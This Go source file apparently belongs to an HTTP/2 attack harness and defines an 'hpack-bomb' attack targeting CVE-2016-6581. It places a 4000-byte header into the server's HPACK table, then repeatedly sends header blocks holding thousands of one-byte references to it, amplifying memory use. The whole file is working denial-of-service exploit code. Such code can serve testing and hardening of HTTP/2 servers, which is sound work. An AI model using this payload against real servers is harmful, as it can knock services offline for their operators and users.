package main

import (
	"bytes"
	"context"
	"strings"

	"golang.org/x/net/http2"
)

// hpackBomb puts a large field into the table, and asks for it with an octet each,
// thousands of times in a header block.
var hpackBomb = &attack{
	name: "hpack-bomb", what: "one large field, referred to thousands of times (CVE-2016-6581)",
	run: func(ctx context.Context, e *enemy) error {
		if _, err := e.get("/", "x-bomb", strings.Repeat("b", 4000)); err != nil {
			return err
		}
		block := append([]byte{0x82, 0x84, 0x87, 0xbf}, bytes.Repeat([]byte{0xbe}, 15000)...)
		for ctx.Err() == nil {
			if err := e.frame(http2.FrameHeaders, http2.FlagHeadersEndHeaders|http2.FlagHeadersEndStream, e.next, block); err != nil {
				return err
			}
			e.next += 2
		}
		return nil
	},
}
